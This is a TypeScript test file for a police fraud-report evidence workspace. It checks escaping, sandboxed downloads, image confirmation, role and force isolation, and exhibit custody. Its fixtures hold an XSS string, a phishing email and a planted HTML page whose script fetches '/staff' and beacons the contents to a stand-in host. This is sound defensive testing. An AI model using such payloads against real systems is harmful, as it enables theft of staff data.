/**
 * Report evidence in the workspace, attacked: other units and roles, missing reasons, a planted HTML page, images
 * of restricted categories, and adding a file to a case the officer does not work. Each control fails its test
 * when taken away.
 */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import type { TOTP } from 'otpauth';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { StaffMember } from '../../../domain/access/access-policy.ts';
import type { CliIo } from '../../../cli/cli-io.ts';
import { runCli } from '../../../cli/main.ts';
import { addStaff, signInStaff } from '../../../../test/support/staff-fixtures.ts';
import {
  auditRows,
  fileHeadersOf,
  plantEvidence,
  PNG,
  reportWithFiles,
  sha256,
} from '../../../../test/support/evidence-fixtures.ts';
import { createTestApp } from '../../../../test/support/test-app.ts';
import {
  TEST_AUDIT_SIGNING_KEY,
  TEST_DATA_KEY,
  testDialect,
} from '../../../../test/support/test-services.ts';

const TEXT = 'He said: <script>alert("x")</script> & pay £500 to 20-00-00 12345678\n';
const EML = [
  'From: "Bank Security" <alerts@bank-secure.example>',
  'To: victim@example.org',
  'Subject: Your account is locked',
  'Date: Tue, 17 Nov 2026 08:30:00 +0000',
  'MIME-Version: 1.0',
  'Content-Type: multipart/mixed; boundary="b1"',
  '',
  '--b1',
  'Content-Type: multipart/alternative; boundary="b2"',
  '',
  '--b2',
  'Content-Type: text/plain; charset=utf-8',
  '',
  'Unlock it at <https://bank-secure.example/unlock>',
  '--b2',
  'Content-Type: text/html; charset=utf-8',
  '',
  '<p>HTML-ONLY-MARKER<img src="https://tracker.example/pixel.gif"></p>',
  '--b2--',
  '--b1',
  'Content-Type: application/pdf; name="statement.pdf"',
  'Content-Disposition: attachment; filename="statement.pdf"',
  'Content-Transfer-Encoding: base64',
  '',
  'JVBERi0xLjQK',
  '--b1--',
  '',
].join('\r\n');
const HTML =
  '<!doctype html><script>fetch("/staff").then(r=>r.text()).then(t=>navigator.sendBeacon("//x",t))</script>';

describe(`report evidence for officers: download, preview, add to a case (${testDialect})`, () => {
  let ctx: Awaited<ReturnType<typeof createTestApp>>;
  const totps = new Map<string, TOTP>();
  const members = new Map<string, StaffMember>();
  /** The Cumbria report and its files by name, with their ids. */
  let reference = '';
  const files = new Map<string, number>();
  let restrictedRef = '';
  let restrictedPng = 0;
  let clockOffset = 0;

  const PEOPLE = [
    ['off@cumbria.example', 'force-officer', 'cumbria'],
    ['col@cumbria.example', 'force-officer', 'cumbria'],
    ['sup@cumbria.example', 'force-supervisor', 'cumbria'],
    ['off@kent.example', 'force-officer', 'kent'],
    ['analyst@nfib.example', 'analyst', undefined],
    ['adviser@nfib.example', 'call-handler', undefined],
  ] as const;

  const report = (category: 'sextortion' | null, items: { name: string; content: Buffer | string }[]) =>
    reportWithFiles(ctx.services, category, items);

  beforeAll(async () => {
    // The clock moves only to see an image's confirmation run out.
    ctx = await createTestApp({}, { clock: () => new Date(Date.now() + clockOffset) });
    for (const [email, role, forceId] of PEOPLE) {
      totps.set(email, await addStaff(ctx.services, { email, role, ...(forceId ? { forceId } : {}) }));
      const member = await ctx.services.staff.byId((await ctx.services.staff.userIdByEmail(email))?.id ?? 0);
      if (member === null) throw new Error(`no ${email}`);
      members.set(email, member);
    }
    const made = await report(null, [
      { name: 'messages.txt', content: TEXT },
      { name: 'phish.eml', content: EML },
      { name: 'screenshot.png', content: PNG },
    ]);
    reference = made.reference;
    for (const [name, id] of made.ids) files.set(name, id);
    // A page planted as evidence (an older version, a migration, another way in): stored as text/html.
    files.set(
      'invoice.html',
      await plantEvidence(ctx.services, reference, {
        name: 'invoice.html',
        contentType: 'text/html',
        content: HTML,
      }),
    );
    const restricted = await report('sextortion', [{ name: 'threat.png', content: PNG }]);
    restrictedRef = restricted.reference;
    restrictedPng = restricted.ids.get('threat.png') ?? 0;
  });
  afterAll(() => ctx.close());

  const member = (email: string) => {
    const found = members.get(email);
    if (found === undefined) throw new Error(`no ${email}`);
    return found;
  };
  const signIn = (email: string) => signInStaff(ctx.app, email, totps.get(email) as TOTP);
  const fileUrl = (name: string, ref = reference) => `/staff/reports/${ref}/evidence/${files.get(name) ?? 0}`;
  const audits = (action: string) => auditRows(ctx.services, action);
  /** The error summary's links, as `input: message`. */
  const errorSummary = (body: string) =>
    [
      ...(/govuk-error-summary[\s\S]*?<\/ul>/.exec(body)?.[0] ?? '').matchAll(
        /<a href="#([\w-]+)">([^<]+)<\/a>/g,
      ),
    ].map((m) => `${m[1] ?? ''}: ${m[2] ?? ''}`);

  it('lists the files on the report with a page for each that opens nothing', async () => {
    const client = await signIn('off@cumbria.example');
    const view = await client.get(`/staff/reports/${reference}/evidence`);
    for (const name of ['messages.txt', 'phish.eml', 'screenshot.png', 'invoice.html'])
      expect(view.body).toContain(`href="${fileUrl(name)}"`);
    const page = await client.get(fileUrl('screenshot.png'));
    expect(page.statusCode).toBe(200);
    expect(page.body).toContain(sha256(PNG));
    expect(page.body).toContain('Show sensitive content');
    // No image on the page until the officer asks for it.
    expect(page.body).not.toMatch(/<img[^>]+evidence/);
    expect((await client.get(fileUrl('messages.txt'))).body).not.toContain('He said');
  });

  it('downloads only with a reason, audited with the file’s SHA-256 before the bytes are sent, with exact headers', async () => {
    const client = await signIn('off@cumbria.example');
    await client.get(fileUrl('messages.txt'));
    const before = (await audits('download-evidence')).length;
    // No reason: the page again with an error summary, nothing written, nothing sent.
    const refused = await client.post(
      fileUrl('messages.txt'),
      { reason: '   ', action: 'download' },
      { follow: false },
    );
    expect(refused.statusCode).toBe(303);
    expect(refused.body).not.toContain('He said');
    const again = await client.get(String(refused.headers.location));
    expect(errorSummary(again.body)).toEqual(['reason: Enter why you need to open this file']);
    expect(await audits('download-evidence')).toHaveLength(before);

    const res = await client.post(
      fileUrl('messages.txt'),
      { reason: 'Send to the DFU for analysis', action: 'download' },
      { follow: false },
    );
    expect(res.statusCode).toBe(200);
    expect(res.rawPayload.equals(Buffer.from(TEXT))).toBe(true);
    expect(fileHeadersOf(res)).toEqual({
      'content-type': 'text/plain',
      'content-disposition': `attachment; filename="messages.txt"; filename*=UTF-8''messages.txt`,
      'x-content-type-options': 'nosniff',
      'content-security-policy': "sandbox; default-src 'none'",
      'cache-control': 'no-store',
    });
    const rows = await audits('download-evidence');
    expect(rows.slice(before)).toEqual([
      {
        actor: 'off@cumbria.example',
        reference,
        detail: `download: messages.txt (SHA-256 ${sha256(TEXT)}); reason: Send to the DFU for analysis`,
      },
    ]);
  });

  it('serves a planted HTML page as a download with its stored type, nosniff and a sandbox, and never previews it', async () => {
    const client = await signIn('off@cumbria.example');
    await client.get(fileUrl('invoice.html'));
    const res = await client.post(
      fileUrl('invoice.html'),
      { reason: 'Check the fake invoice', action: 'download' },
      {
        follow: false,
      },
    );
    expect(res.statusCode).toBe(200);
    expect(fileHeadersOf(res)).toEqual({
      'content-type': 'text/html',
      'content-disposition': `attachment; filename="invoice.html"; filename*=UTF-8''invoice.html`,
      'x-content-type-options': 'nosniff',
      'content-security-policy': "sandbox; default-src 'none'",
      'cache-control': 'no-store',
    });
    const page = await client.get(fileUrl('invoice.html'));
    expect(page.body).not.toContain('Preview as text');
    const preview = await client.post(fileUrl('invoice.html'), { reason: 'Look at it', action: 'preview' });
    expect(errorSummary(preview.body)).toEqual([
      'reason: This type of file cannot be previewed. Download it instead',
    ]);
    expect(preview.body).not.toContain('sendBeacon');
  });

  it('previews text and emails as escaped text, audited; an email’s HTML body is never shown', async () => {
    const client = await signIn('off@cumbria.example');
    await client.get(fileUrl('messages.txt'));
    const before = (await audits('preview-evidence')).length;
    const text = await client.post(fileUrl('messages.txt'), {
      reason: 'Read the threats',
      action: 'preview',
    });
    expect(text.statusCode).toBe(200);
    expect(text.headers['cache-control']).toBe('no-store');
    expect(text.body).toContain('He said: &lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; pay £500');
    expect(text.body).not.toContain('<script>alert');

    await client.get(fileUrl('phish.eml'));
    const email = await client.post(fileUrl('phish.eml'), { reason: 'Find the sender', action: 'preview' });
    expect(email.body).toContain('&quot;Bank Security&quot; &lt;alerts@bank-secure.example&gt;');
    expect(email.body).toContain('Your account is locked');
    expect(email.body).toContain('Tue, 17 Nov 2026 08:30:00 +0000');
    expect(email.body).toContain('Unlock it at &lt;https://bank-secure.example/unlock&gt;');
    expect(email.body).toContain('statement.pdf');
    expect(email.body).not.toContain('HTML-ONLY-MARKER');
    expect(email.body).not.toContain('tracker.example');
    expect((await audits('preview-evidence')).slice(before)).toEqual([
      {
        actor: 'off@cumbria.example',
        reference,
        detail: `preview: messages.txt (SHA-256 ${sha256(TEXT)}); reason: Read the threats`,
      },
      {
        actor: 'off@cumbria.example',
        reference,
        detail: `preview: phish.eml (SHA-256 ${sha256(EML)}); reason: Find the sender`,
      },
    ]);
  });

  it('shows an image only after "Show sensitive content", inline with the download’s headers, for that page only', async () => {
    const client = await signIn('off@cumbria.example');
    const imageUrl = `${fileUrl('screenshot.png')}/image`;
    // Asked for directly, with or without a made-up confirmation: as if it did not exist.
    for (const url of [imageUrl, `${imageUrl}?confirm=yes`])
      expect(
        (
          await ctx.app.inject({
            url,
            headers: { cookie: `bl_session=${client.cookie('bl_session') ?? ''}` },
          })
        ).statusCode,
      ).toBe(404);
    await client.get(fileUrl('screenshot.png'));
    const page = await client.post(fileUrl('screenshot.png'), {
      reason: 'Check the screenshot',
      action: 'preview',
    });
    const src =
      /<img class="app-evidence-image" src="([^"]+)"/.exec(page.body)?.[1]?.replace(/&amp;/g, '&') ?? '';
    expect(src).toMatch(new RegExp(`^${imageUrl}\\?confirm=[\\w-]{20,}$`));
    // Only that confirmation, not any other value, and not once it has run out.
    expect((await client.get(`${imageUrl}?confirm=yes`)).statusCode).toBe(404);
    clockOffset = 6 * 60 * 1000;
    try {
      expect((await client.get(src)).statusCode).toBe(404);
    } finally {
      clockOffset = 0;
    }
    const image = await client.get(src);
    expect(image.statusCode).toBe(200);
    expect(image.rawPayload.equals(PNG)).toBe(true);
    expect(fileHeadersOf(image)).toEqual({
      'content-type': 'image/png',
      'content-disposition': `inline; filename="screenshot.png"; filename*=UTF-8''screenshot.png`,
      'x-content-type-options': 'nosniff',
      'content-security-policy': "sandbox; default-src 'none'",
      'cache-control': 'no-store',
    });
    // Another officer's session does not carry the confirmation, even with the URL.
    const colleague = await signIn('col@cumbria.example');
    expect((await colleague.get(src)).statusCode).toBe(404);
  });

  it('never shows sextortion images to an officer who is not on a case holding the report', async () => {
    const url = `/staff/reports/${restrictedRef}/evidence/${restrictedPng}`;
    const officer = await signIn('off@cumbria.example');
    const page = await officer.get(url);
    expect(page.body).not.toContain('Show sensitive content');
    expect(page.body).toContain('shown only to the team of a case that holds the report');
    const before = (await audits('preview-evidence')).length;
    const asked = await officer.post(url, { reason: 'Curious', action: 'preview' });
    expect(errorSummary(asked.body)).toEqual([
      'reason: Images in reports of this type are shown only to the team of a case that holds the report',
    ]);
    expect(asked.body).not.toContain('app-evidence-image');
    expect(await audits('preview-evidence')).toHaveLength(before);
    // The file can still be downloaded, audited, for grading.
    const download = await officer.post(
      url,
      { reason: 'Grade for CAID', action: 'download' },
      { follow: false },
    );
    expect(download.rawPayload.equals(PNG)).toBe(true);

    // A case holding the report: its team sees the image; the unit's officer not on the team still does not.
    const caseRef = await ctx.services.investigations.createCase(member('col@cumbria.example'), {
      title: 'Sextortion',
      reports: [restrictedRef],
      restricted: false,
      members: [],
    });
    const colleague = await signIn('col@cumbria.example');
    await colleague.get(url);
    const shown = await colleague.post(url, { reason: 'Identify the offender', action: 'preview' });
    expect(shown.body).toContain('app-evidence-image');
    const src =
      /<img class="app-evidence-image" src="([^"]+)"/.exec(shown.body)?.[1]?.replace(/&amp;/g, '&') ?? '';
    expect((await colleague.get(src)).statusCode).toBe(200);
    expect(
      errorSummary((await officer.post(url, { reason: 'Curious', action: 'preview' })).body),
    ).toHaveLength(1);
    await ctx.services.investigations.addMember(
      member('col@cumbria.example'),
      caseRef,
      'off@cumbria.example',
    );
    await officer.get(url);
    expect((await officer.post(url, { reason: 'Now on the team', action: 'preview' })).body).toContain(
      'app-evidence-image',
    );
  });

  it('answers another force’s officer, an analyst, a call handler, and a file of another report 404, writing nothing', async () => {
    const written = async () =>
      (
        await ctx.services.database.db
          .selectFrom('audit_log')
          .select('id')
          .where('action', 'in', ['download-evidence', 'preview-evidence', 'exhibit-from-report'])
          .execute()
      ).length;
    const before = await written();
    const attempts: [string, string[]][] = [
      ['off@kent.example', [fileUrl('messages.txt'), fileUrl('screenshot.png')]],
      ['analyst@nfib.example', [fileUrl('messages.txt')]],
      // A call handler took reports, and reads none of them.
      ['adviser@nfib.example', [fileUrl('messages.txt'), fileUrl('screenshot.png')]],
      // A file id of one report under another the officer reads; an id that does not exist.
      [
        'off@cumbria.example',
        [fileUrl('messages.txt', restrictedRef), `/staff/reports/${reference}/evidence/999999`],
      ],
    ];
    for (const [email, urls] of attempts) {
      const client = await signIn(email);
      for (const url of urls) {
        const what = `${email} ${url}`;
        expect((await client.get(url)).statusCode, what).toBe(404);
        expect((await client.get(`${url}/exhibit`)).statusCode, what).toBe(404);
        expect((await client.get(`${url}/image?confirm=x`)).statusCode, what).toBe(404);
        for (const action of ['download', 'preview'])
          expect(
            (await client.post(url, { reason: 'Looking', action }, { follow: false })).statusCode,
            what,
          ).toBe(404);
        expect(
          (await client.post(`${url}/exhibit`, { case: 'CASE-X', initials: 'AB' }, { follow: false }))
            .statusCode,
          what,
        ).toBe(404);
      }
    }
    expect(await written()).toBe(before);
  });

  it('adds a file to one of the officer’s cases as an exhibit: same SHA-256, received custody entry, exported', async () => {
    const officer = member('off@cumbria.example');
    const caseRef = await ctx.services.investigations.createCase(officer, {
      title: 'Bank phishing',
      reports: [],
      restricted: false,
      members: [],
    });
    const kentCase = await ctx.services.investigations.createCase(member('off@kent.example'), {
      title: 'Kent case',
      reports: [],
      restricted: false,
      members: [],
    });
    const hidden = await ctx.services.investigations.createCase(member('col@cumbria.example'), {
      title: 'Restricted, not on the team',
      reports: [],
      restricted: true,
      members: [],
    });
    const client = await signIn('off@cumbria.example');
    const url = `${fileUrl('phish.eml')}/exhibit`;
    const page = await client.get(url);
    expect(page.body).toContain(caseRef);
    expect(page.body).not.toContain(kentCase);
    expect(page.body).not.toContain(hidden);
    const exhibitsBefore = await ctx.services.database.db.selectFrom('exhibits').select('id').execute();

    expect(errorSummary((await client.post(url, {})).body)).toEqual([
      'case: Select the case to add the file to',
      'initials: Enter your initials: 2 to 4 letters, like JS',
    ]);
    // A case the officer does not work, however it is named: refused like one that does not exist.
    for (const other of [kentCase, hidden, 'CASE-NOSUCHCASE'])
      expect(errorSummary((await client.post(url, { case: other, initials: 'jd' })).body), other).toEqual([
        'case: Select one of your cases',
      ]);
    expect(await ctx.services.database.db.selectFrom('exhibits').select('id').execute()).toEqual(
      exhibitsBefore,
    );

    await client.post(url, { case: caseRef, initials: 'jd' });
    expect(client.path).toMatch(new RegExp(`^/staff/cases/${caseRef}/exhibits/\\d+\\?done=exhibit$`));
    const shown = await client.get(client.path);
    expect(shown.body).toContain('phish.eml');
    expect(shown.body).toContain(sha256(EML));
    const received = await ctx.services.database.db
      .selectFrom('report_evidence')
      .select('created_at')
      .where('id', '=', files.get('phish.eml') ?? 0)
      .executeTakeFirstOrThrow();
    const exhibit = (await ctx.services.investigations.readCase(officer, caseRef))?.exhibits[0];
    expect(exhibit).toMatchObject({ exhibitRef: 'JD/1', seizedAt: received.created_at });
    const custody = await ctx.services.investigations.custody(officer, exhibit?.id ?? 0);
    expect(custody?.entries).toEqual([
      expect.objectContaining({
        event: 'received',
        actor: 'off@cumbria.example',
        at: received.created_at,
        location: 'online report',
        note: `received from victim via online report ${reference}`,
        fileSha256: sha256(EML),
        fileName: 'phish.eml',
      }),
    ]);
    expect(await audits('exhibit-from-report')).toEqual([
      { actor: 'off@cumbria.example', reference, detail: `${caseRef} JD/1: ${sha256(EML)}` },
    ]);
    // The custody page says it in Welsh too.
    const cy = await client.get(`/staff/cases/${caseRef}/custody?lng=cy`);
    expect(cy.body).toContain(`Derbyniwyd gan y dioddefwr drwy adroddiad ar-lein ${reference}`);
    await client.get(`/staff/cases/${caseRef}/custody?lng=en`);
    // Twice into the same case: refused.
    expect(errorSummary((await client.post(url, { case: caseRef, initials: 'JD' })).body)).toEqual([
      'case: This file is already an exhibit of that case',
    ]);

    // The bundle holds the file with the same SHA-256, and its own checker accepts it.
    const cwd = mkdtempSync(join(tmpdir(), 'bluelight-evidence-'));
    const io: CliIo = {
      stdin: Readable.from([]),
      stdout: () => undefined,
      stderr: () => undefined,
      env: {
        DATABASE_URL: ctx.services.databaseUrl,
        SESSION_SECRET: 'cli-test-secret-cli-test-secret-cli-test',
        AUDIT_SIGNING_KEY: TEST_AUDIT_SIGNING_KEY,
        DATA_KEY: TEST_DATA_KEY,
      },
      cwd,
    };
    expect(await runCli(['case', 'export', caseRef, 'bundle'], io)).toBe(0);
    const bundle = join(cwd, 'bundle');
    expect(readdirSync(join(bundle, 'files'))).toEqual([`${sha256(EML)}-phish.eml`]);
    expect(sha256(readFileSync(join(bundle, 'files', `${sha256(EML)}-phish.eml`)))).toBe(sha256(EML));
    const verified = spawnSync(process.execPath, ['verify.mjs'], { cwd: bundle, encoding: 'utf8' });
    expect(verified.status, verified.stderr).toBe(0);
  });
});
